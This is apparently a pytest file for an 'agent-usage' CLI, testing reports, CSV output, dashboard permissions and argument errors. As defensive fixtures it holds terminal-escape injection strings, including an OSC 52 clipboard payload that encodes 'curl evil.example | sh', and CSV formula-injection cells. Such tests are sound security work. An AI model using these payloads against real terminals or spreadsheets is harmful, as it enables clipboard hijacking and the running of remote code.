"""The `agent-usage` command line: its shape, log strings on screen and in CSV, bad input."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from logs import one_model_event

from agent_usage import EventLog, __version__
from agent_usage._cli import main

CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def usage_event(
    session: Any,
    model: str = "claude-sonnet-4-5",
    *,
    ts: str = "2026-11-20T10:00:00+00:00",
    inp: int = 1000,
    cost: float | None = 0.01,
    saved: float | None = 0.001,
) -> dict[str, Any]:
    """A one-model `llm_usage` event as the writer lays it out."""
    return one_model_event(
        ts=ts,
        session=session,
        model=model,
        inp=inp,
        out=10,
        cost=cost,
        saved=saved,
        provider="anthropic",
    )


def write_log(path: Path, events: list[dict[str, Any]]) -> Path:
    with EventLog(path) as w:
        for e in events:
            w.append(e)
    return path


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# --- shape ----------------------------------------------------------------------

NO_LANGCHAIN = """
import sys
from agent_usage._cli import main
code = main(sys.argv[1:])
loaded = sorted(m for m in sys.modules if m.split(".")[0] in ("langchain_core", "langgraph",
                                                              "langchain", "jinja2"))
print("LOADED=" + ",".join(loaded), file=sys.stderr)
sys.exit(code)
"""


@pytest.mark.parametrize(
    "argv",
    [["--help"], ["report", "{log}"], ["report", "{log}", "--by", "model", "--format", "csv"]],
    ids=["help", "report", "report-csv"],
)
def test_help_and_report_do_not_import_langchain(tmp_path: Path, argv: list[str]) -> None:
    """`agent-usage --help` and `report` start without LangChain (nor Jinja2)."""
    log = write_log(tmp_path / "events.jsonl", [usage_event("s1")])
    proc = subprocess.run(
        [sys.executable, "-c", NO_LANGCHAIN, *(a.format(log=log) for a in argv)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert "LOADED=\n" in proc.stderr


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    """`agent-usage --version` prints the package version."""
    code, out, _ = run_cli(capsys, "--version")
    assert code == 0
    assert out.strip() == f"agent-usage {__version__}"


def test_python_dash_m_runs_the_cli() -> None:
    """`python -m agent_usage` runs the same command line as the `agent-usage` script."""
    proc = subprocess.run(
        [sys.executable, "-m", "agent_usage", "--version"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert (proc.returncode, proc.stdout.strip()) == (0, f"agent-usage {__version__}")


# --- item 10: control characters from the log never reach the terminal raw -------

HOSTILE_TERMINAL = {
    "esc-colour": "\x1b[31mred\x1b[0m",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "bell": "ding\x07",
    "cr-forged-row": "s9\rs1                    99    99   999k",
    "newline": "two\nlines",
    "bidi": "abc\u202edcba",
    "c1-csi": "x\x9b2J",
}


@pytest.mark.parametrize("by", ["session", "model"])
def test_report_table_shows_control_characters_visibly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], by: str
) -> None:
    """ESC, CR, BEL, OSC 52, bidi overrides in a session id or model show as escapes."""
    events = [
        usage_event(s, model=s) if by == "model" else usage_event(s)
        for s in HOSTILE_TERMINAL.values()
    ]
    log = write_log(tmp_path / "events.jsonl", events)
    code, out, _ = run_cli(capsys, "report", str(log), "--by", by)
    assert code == 0
    assert not CONTROL.search(out), repr(out)
    for text in HOSTILE_TERMINAL.values():
        visible = "".join(c if c.isprintable() else repr(c)[1:-1] for c in text)
        assert visible in out
    # one table line per group: no row was forged or split
    assert len(out.splitlines()) == 1 + len(HOSTILE_TERMINAL) + 2


# --- item 11: CSV cells a spreadsheet would run --------------------------------------

FORMULAS = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_report_csv_neutralises_formula_cells(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Text cells starting with = + - @ tab CR get a leading quote; numbers stay numbers."""
    events = [usage_event(s, cost=0.01 * (i + 1)) for i, s in enumerate(FORMULAS)]
    events.append(usage_event("plain", cost=0.001, saved=-0.0001))
    log = write_log(tmp_path / "events.jsonl", events)
    code, out, _ = run_cli(capsys, "report", str(log), "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    by_session = {r["session_id"]: r for r in rows}
    assert set(by_session) == {"'" + s for s in FORMULAS} | {"plain"}
    assert float(by_session["plain"]["cache_savings_usd"]) == -0.0001  # no quote on a number
    for r in rows:
        assert not r["session_id"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_report_csv_neutralises_model_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Model names are log strings too."""
    events = [usage_event("s", model=m) for m in FORMULAS]
    log = write_log(tmp_path / "events.jsonl", events)
    code, out, _ = run_cli(capsys, "report", str(log), "--format", "csv", "--by", "model")
    assert code == 0
    keys = [r[0] for r in csv.reader(io.StringIO(out))][1:]
    assert keys
    assert not [k for k in keys if k.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- item 12: the dashboard file is as private as the log -----------------------------


@pytest.mark.parametrize("existing", [None, 0o644, 0o600], ids=["new", "over-0644", "over-0600"])
def test_dashboard_file_is_0600(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], existing: int | None
) -> None:
    """Written 0600, also when it replaces a wider file; no temporary file left behind."""
    log = write_log(tmp_path / "events.jsonl", [usage_event("user-42")])
    out = tmp_path / "site" / "dashboard.html"
    out.parent.mkdir()
    if existing is not None:
        out.write_text("old")
        out.chmod(existing)
    old_umask = os.umask(0o022)
    try:
        code, _, err = run_cli(capsys, "dashboard", str(log), "-o", str(out))
    finally:
        os.umask(old_umask)
    assert code == 0, err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "user-42" in out.read_text()
    assert os.listdir(out.parent) == ["dashboard.html"]


# --- item 18: report says what it leaves out, refuses an empty range ------------------


def test_top_says_how_many_rows_it_left_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--top 2 of 5 sessions: the table says 3 more; JSON stays JSON, the note on stderr."""
    log = write_log(
        tmp_path / "events.jsonl", [usage_event(f"s{i}", cost=0.01 * i) for i in range(1, 6)]
    )
    code, out, _ = run_cli(capsys, "report", str(log), "--top", "2")
    assert code == 0
    assert "3 more session(s) not shown" in out
    assert [line.split()[0] for line in out.splitlines()[1:3]] == ["s5", "s4"]
    code, out, err = run_cli(capsys, "report", str(log), "--top", "2", "--format", "json")
    assert code == 0
    assert [r["session_id"] for r in json.loads(out)] == ["s5", "s4"]
    assert "3 more session(s) not shown" in err
    code, out, _ = run_cli(capsys, "report", str(log), "--top", "5")
    assert "not shown" not in out


@pytest.mark.parametrize(
    ("since", "until"),
    [("2026-11-21", "2026-11-20"), ("2026-11-20T12:00", "2026-11-20T11:00"),
     ("2026-11-20T10:00", "2026-11-20T10:00")],
    ids=["days", "times", "equal"],
)  # fmt: skip
@pytest.mark.parametrize("command", ["report", "dashboard"])
def test_since_not_before_until_is_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, since: str, until: str
) -> None:
    """An empty time range is a mistake: one line, exit 2."""
    log = write_log(tmp_path / "events.jsonl", [usage_event("s1")])
    extra = ["-o", str(tmp_path / "d.html")] if command == "dashboard" else []
    code, out, err = run_cli(capsys, command, str(log), "--since", since, "--until", until, *extra)
    assert code == 2
    assert out == ""
    assert len(err.strip().splitlines()) == 1
    assert "--since" in err and "--until" in err
    assert not (tmp_path / "d.html").exists()


def test_same_day_since_until_is_that_day(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--since D --until D is the whole day D (a date as --until includes the day)."""
    log = write_log(tmp_path / "events.jsonl", [usage_event("s1")])
    code, out, _ = run_cli(
        capsys, "report", str(log), "--since", "2026-11-20", "--until", "2026-11-20"
    )
    assert code == 0
    assert out.splitlines()[1].startswith("s1 ")


def test_by_model_shows_whole_model_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Two dated versions of one model stay two distinct names in the table."""
    models = ["claude-sonnet-4-5-20250929", "claude-sonnet-4-5-20251022"]
    log = write_log(tmp_path / "events.jsonl", [usage_event("s", model=m) for m in models])
    code, out, _ = run_cli(capsys, "report", str(log), "--by", "model")
    assert code == 0
    keys = sorted(line.split()[0] for line in out.splitlines()[1:3])
    assert keys == models
    lines = out.splitlines()
    assert len({len(line) for line in lines[:4]}) == 1  # the columns still line up


def test_negative_savings_print_with_the_sign_first(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Cache writes that cost more than they saved: -$0.0001, not $-0.0001."""
    log = write_log(tmp_path / "events.jsonl", [usage_event("s1", saved=-0.0001)])
    code, out, _ = run_cli(capsys, "report", str(log))
    assert code == 0
    assert "-$0.0001" in out
    assert "$-" not in out


# --- bad input: one line, exit 2 ------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        ([], "required: COMMAND"),
        (["nope"], "invalid choice: 'nope'"),
        (["report"], "required: PATH"),
        (["report", "{log}", "--top", "x"], "argument --top: not an integer"),
        (["report", "{log}", "--top", "-1"], "argument --top: must be at least 1"),
        (["report", "{log}", "--since", "1 Nov"], "argument --since: not an ISO date"),
        (["dashboard", "{log}", "--session-usd", "-1"], "argument --session-usd: must be"),
        (["dashboard", "{log}", "--day-usd", "nan"], "argument --day-usd: must be"),
        (["dashboard", "{log}", "--day-usd", "lots"], "argument --day-usd: not a number"),
        (["dashboard", "{log}", "-o", "{tmp}"], "cannot write"),
        (["demo", "--turns", "0"], "argument --turns: must be at least 1"),
        (["report", "{tmp}/a\x1b]52;c;eA==\x07"], "no such file: "),
        (["report", "{tmp}/" + "x" * 5000], "{tmp}/xxx"),
    ],
    ids=["no-command", "bad-command", "no-path", "top-text", "top-negative", "since", "session",
         "day-nan", "day-text", "output-is-dir", "demo-turns", "control-in-name", "name-too-long"],
)  # fmt: skip
def test_bad_input_is_one_line_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    """Every bad option or argument: one stderr line naming it, exit 2, no traceback."""
    log = write_log(tmp_path / "events.jsonl", [usage_event("s1")])
    code, out, err = run_cli(capsys, *(a.format(log=log, tmp=tmp_path) for a in argv))
    assert code == 2
    assert out == ""
    assert len(err.strip().splitlines()) == 1, err
    assert err.startswith("agent-usage")
    assert message.format(tmp=tmp_path) in err
    assert not CONTROL.search(err.rstrip("\n"))  # even a file name cannot drive the terminal
